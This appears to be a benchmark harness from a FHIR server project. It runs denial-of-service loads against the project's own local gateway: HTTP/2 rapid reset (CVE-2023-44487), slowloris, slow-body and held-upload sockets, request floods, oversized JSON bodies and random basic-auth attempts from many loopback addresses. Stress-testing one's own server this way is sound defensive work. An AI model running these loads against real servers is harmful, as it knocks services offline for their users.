/**
 * The attack bench's loads, run in a child process of bench/attack.ts
 * (`node --import tsx bench/attackers.ts`, over IPC) so that none of them runs
 * on the honest caller's event loop: the socket loads' once-a-second write
 * bursts (up to 1,000 sockets) and connects, the flood's 1,500 TLS requests a
 * second and the Bundle's 5 MB encrypted and its 3 MB answer read, in one
 * process with the caller, delayed the caller's own clock, which then counted
 * the delay as the server's.
 *
 * Issue 45's gateway loads: h2-rapid-reset (HTTP/2 streams opened and reset
 * at once by a key holder), gateway-held-uploads (TLS POSTs through key-auth
 * whose body never comes) and basic-auth-unknown-users (basic-auth with
 * random usernames from many 127.3.x.y addresses).
 *
 * Socket loads (idle, slowloris, slow bodies) hold sockets; with `reopen`, a
 * socket the server closes is opened again at once. Request loads (flood,
 * bundle, large-array, lone-surrogate) send the same request again as soon as each answer ends, `concurrency`
 * at a time. Messages: the parent sends one `AttackPlan`; the child starts the
 * load and answers `{ started: true }`; on `'stop'` it stops, answers
 * `{ detail }` and exits.
 */
import { randomBytes } from 'node:crypto';
import { connect as h2connect, constants as h2constants, type ClientHttp2Session } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { Agent, request } from 'undici';

/** The Content-Length a slow body announces. */
export const SLOW_BODY_BYTES = 60_000;

export type SocketKind = 'idle' | 'slowloris' | 'slow-bodies' | 'held-uploads';
export type RequestKind = 'flood' | 'bundle' | 'large-array' | 'lone-surrogate';
/** Issue 45's loads on the gateway by a key or password holder, or a stranger with many addresses. */
export type GatewayKind = 'h2-rapid-reset' | 'gateway-held-uploads' | 'basic-auth-unknown-users';
export type AttackKind = SocketKind | RequestKind | GatewayKind;

export interface GatewayPlan {
  kind: GatewayKind;
  /** https://host:port of the gateway's TLS proxy, verified against `ca`. */
  origin: string;
  ca: string;
  /** The path attacked (with its query). */
  path: string;
  headers: Record<string, string>;
  /** h2-rapid-reset: HTTP/2 connections; gateway-held-uploads: uploads held; basic-auth-unknown-users: source addresses (127.3.x.y). */
  count: number;
}

export interface SocketPlan {
  kind: SocketKind;
  ports: number[];
  perPort: number;
  /** The TLS port, where slowloris trickles a handshake instead of a request head. */
  tlsPort: number;
  /** Open again a socket the server closes (slow bodies, as the issue's attacker does). */
  reopen: boolean;
}

export interface RequestPlan {
  kind: RequestKind;
  /** https:// on the gateway, verified against `ca`. */
  url: string;
  ca: string;
  method: 'GET' | 'POST';
  headers: Record<string, string>;
  /** For `bundle`: a transaction of this many new Patients is the body. */
  bundleResources?: number;
  /** For `large-array`: one Patient with this many `name[0].given` items is the body (issue 45). */
  givenNames?: number;
  /** Any other request's body, as sent. */
  body?: string;
  concurrency: number;
  /** The statuses that count as answered as expected. */
  expect: number[];
}

export type AttackPlan = SocketPlan | RequestPlan | GatewayPlan;

/** A transaction Bundle of `n` new Patients, each with its own urn:uuid fullUrl. */
export function bundleBody(n: number): string {
  const entry = Array.from({ length: n }, (_, i) => ({
    fullUrl: `urn:uuid:00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
    resource: { resourceType: 'Patient', identifier: [{ system: 'urn:bench:attack', value: `a${i}` }], name: [{ family: 'Attack', given: [`B${i}`] }] },
    request: { method: 'POST', url: 'Patient' },
  }));
  return JSON.stringify({ resourceType: 'Bundle', type: 'transaction', entry });
}

/** One Patient whose `name[0].given` holds `n` short names (100,000: 400 KB, the issue 45 attack). */
export function largeArrayBody(n: number): string {
  return JSON.stringify({ resourceType: 'Patient', identifier: [{ system: 'urn:bench:attack', value: 'large-array' }], name: [{ family: 'Attack', given: Array.from({ length: n }, (_, i) => `G${i}`) }] });
}

/** Sends the plan's request again as each answer ends, `concurrency` at a time, until stopped. */
function requests(plan: RequestPlan): () => Promise<string> {
  const agent = new Agent({ connect: { ca: plan.ca }, connections: plan.concurrency });
  const body = plan.bundleResources ? bundleBody(plan.bundleResources) : plan.givenNames ? largeArrayBody(plan.givenNames) : plan.body;
  let running = true;
  let sent = 0;
  let answered = 0;
  const statuses = new Map<string, number>();
  const workers = Array.from({ length: plan.concurrency }, async () => {
    while (running) {
      sent += 1;
      let status: string;
      try {
        const res = await request(plan.url, { dispatcher: agent, method: plan.method, headers: plan.headers, body, headersTimeout: 600_000, bodyTimeout: 600_000 });
        await res.body.dump();
        status = String(res.statusCode);
        if (plan.expect.includes(res.statusCode)) answered += 1;
      } catch (err) {
        status = (err as { code?: string }).code ?? 'network';
      }
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
    }
  });
  return async () => {
    running = false;
    await Promise.all(workers);
    await agent.close();
    return `${sent} sent, ${answered} answered as expected (${[...statuses].map(([k, n]) => `${k}×${n}`).join(' ')})`;
  };
}

/**
 * h2-rapid-reset: `count` HTTP/2 connections, each opening streams and resetting them at once (CVE-2023-44487),
 * a connection the gateway closes opened again.
 */
function rapidReset(plan: GatewayPlan): () => Promise<string> {
  let running = true;
  let streams = 0;
  let sessions = 0;
  let goaways = 0;
  const one = async (): Promise<void> => {
    while (running) {
      const session = await new Promise<ClientHttp2Session | null>((resolve) => {
        const s = h2connect(plan.origin, { ca: plan.ca });
        const timer = setTimeout(() => {
          s.destroy();
          resolve(null);
        }, 5_000);
        s.once('remoteSettings', () => {
          clearTimeout(timer);
          resolve(s);
        });
        s.once('error', () => undefined);
        s.once('close', () => {
          clearTimeout(timer);
          resolve(null);
        });
      });
      if (session === null) {
        await new Promise((r) => setTimeout(r, 100));
        continue;
      }
      sessions += 1;
      session.on('error', () => undefined);
      session.once('goaway', () => (goaways += 1));
      // A connection the gateway closed may go unnoticed by a client busy resetting: a new one every 2 s.
      const until = Date.now() + 2_000;
      while (running && !session.closed && !session.destroyed && Date.now() < until) {
        for (let i = 0; i < 50 && !session.closed && !session.destroyed; i++) {
          try {
            const st = session.request({ ':path': plan.path, ...plan.headers });
            st.on('error', () => undefined);
            st.close(h2constants.NGHTTP2_CANCEL);
            streams += 1;
          } catch {
            break;
          }
        }
        await new Promise((r) => setImmediate(r));
      }
      session.destroy();
    }
  };
  const workers = Array.from({ length: plan.count }, one);
  return async () => {
    running = false;
    await Promise.all(workers);
    return `${streams} streams opened and reset on ${sessions} connections, ${goaways} GOAWAY seen`;
  };
}

/** gateway-held-uploads: `count` TLS POSTs announcing a body and sending one byte of it, each closed one opened again. */
function heldUploads(plan: GatewayPlan): () => Promise<string> {
  const url = new URL(plan.origin);
  const held = new Set<Socket>();
  let opened = 0;
  let answered = 0;
  let stopping = false;
  const head = `POST ${plan.path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/fhir+json\r\nContent-Length: ${SLOW_BODY_BYTES}\r\n${Object.entries(plan.headers).map(([k, v]) => `${k}: ${v}\r\n`).join('')}\r\n{`;
  const one = (): void => {
    if (stopping) return;
    const s = tlsConnect({ host: url.hostname, port: Number(url.port), ca: plan.ca, servername: url.hostname, ALPNProtocols: ['http/1.1'] }, () => {
      opened += 1;
      s.write(head);
    });
    held.add(s);
    s.on('data', () => (answered += 1));
    s.on('error', () => undefined);
    s.once('close', () => {
      held.delete(s);
      if (!stopping) setTimeout(one, 100);
    });
  };
  for (let i = 0; i < plan.count; i++) one();
  return async () => {
    stopping = true;
    for (const s of held) s.destroy();
    return `${opened} uploads opened, ${answered} answers read`;
  };
}

/** basic-auth-unknown-users: basic-auth with a random username and password each time, from `count` addresses 127.3.x.y, 2 at a time each. */
function unknownUsers(plan: GatewayPlan): () => Promise<string> {
  let running = true;
  const statuses = new Map<string, number>();
  const agents = Array.from({ length: plan.count }, (_, i) => new Agent({ connect: { ca: plan.ca }, localAddress: `127.3.${Math.floor(i / 250)}.${(i % 250) + 1}` }));
  const workers = agents.flatMap((agent) =>
    Array.from({ length: 2 }, async () => {
      while (running) {
        const auth = Buffer.from(`u-${randomBytes(6).toString('hex')}:${randomBytes(6).toString('hex')}`).toString('base64');
        let status: string;
        try {
          const res = await request(`${plan.origin}${plan.path}`, { dispatcher: agent, headers: { ...plan.headers, authorization: `Basic ${auth}` }, headersTimeout: 60_000 });
          await res.body.dump();
          status = String(res.statusCode);
        } catch (err) {
          status = (err as { code?: string }).code ?? 'network';
          if (!running) break;
        }
        statuses.set(status, (statuses.get(status) ?? 0) + 1);
      }
    }),
  );
  return async () => {
    running = false;
    await Promise.all(agents.map((a) => a.destroy()));
    await Promise.all(workers);
    return `from ${plan.count} addresses: ${[...statuses].map(([k, n]) => `${k}×${n}`).join(' ')}`;
  };
}

function gatewayLoad(plan: GatewayPlan): () => Promise<string> {
  switch (plan.kind) {
    case 'h2-rapid-reset':
      return rapidReset(plan);
    case 'gateway-held-uploads':
      return heldUploads(plan);
    case 'basic-auth-unknown-users':
      return unknownUsers(plan);
  }
}

function open(port: number): Promise<Socket | null> {
  return new Promise((resolve) => {
    const s = connect(port, '127.0.0.1');
    s.on('error', () => resolve(null));
    s.once('connect', () => resolve(s));
  });
}

/** What each socket sends first, and then once a second. */
function bytes(plan: SocketPlan, port: number): { first: string | Buffer; drip: string | Buffer } {
  switch (plan.kind) {
    case 'idle':
      return { first: '', drip: '' };
    case 'slowloris':
      return port === plan.tlsPort
        ? { first: Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00]), drip: Buffer.from([0x01]) }
        : { first: 'GET / HTTP/1.1\r\nHost: a\r\n', drip: 'X-a: b\r\n' };
    case 'slow-bodies':
    case 'held-uploads':
      // Under every listener's body limit (the API's is 64 KiB), so the server must wait for it: a larger
      // Content-Length is refused at once (413), which turns this load into a reconnect flood instead.
      return { first: `POST /api/patients HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${SLOW_BODY_BYTES}\r\n\r\n{`, drip: ' ' };
  }
}

/** Opens the sockets (and, with `reopen`, again each one the server closes). */
async function sockets(plan: SocketPlan): Promise<() => Promise<string>> {
  const held = new Set<{ s: Socket; drip: string | Buffer }>();
  let opened = 0;
  let closedByServer = 0;
  let stopping = false;
  const one = async (port: number): Promise<void> => {
    const s = await open(port);
    if (!s) return;
    if (stopping) {
      s.destroy();
      return;
    }
    opened += 1;
    const { first, drip } = bytes(plan, port);
    const h = { s, drip };
    held.add(h);
    s.on('close', () => {
      held.delete(h);
      if (stopping) return;
      closedByServer += 1;
      if (plan.reopen) void one(port);
    });
    s.resume();
    if (first.length) s.write(first);
  };
  for (const port of plan.ports) {
    for (let i = 0; i < plan.perPort; i += 250) {
      await Promise.all(Array.from({ length: Math.min(250, plan.perPort - i) }, () => one(port)));
    }
  }
  const timer = setInterval(() => {
    for (const { s, drip } of held) if (drip.length && !s.destroyed) s.write(drip);
  }, 1_000);
  return async () => {
    stopping = true;
    clearInterval(timer);
    for (const { s } of held) s.destroy();
    return `${opened} opened, ${closedByServer} closed by the server${plan.reopen ? ' and opened again' : ''}`;
  };
}

if (process.send) {
  let stop: (() => Promise<string>) | null = null;
  process.on('message', (msg: AttackPlan | 'stop') => {
    if (msg === 'stop') {
      void (stop ? stop() : Promise.resolve('never started')).then((detail) => process.send!({ detail }, () => process.exit(0)));
      return;
    }
    void ('origin' in msg ? Promise.resolve(gatewayLoad(msg)) : 'url' in msg ? Promise.resolve(requests(msg)) : sockets(msg)).then((s) => {
      stop = s;
      process.send!({ started: true });
    });
  });
  // The parent gone (killed, crashed): do not keep the sockets open.
  process.on('disconnect', () => process.exit(0));
}
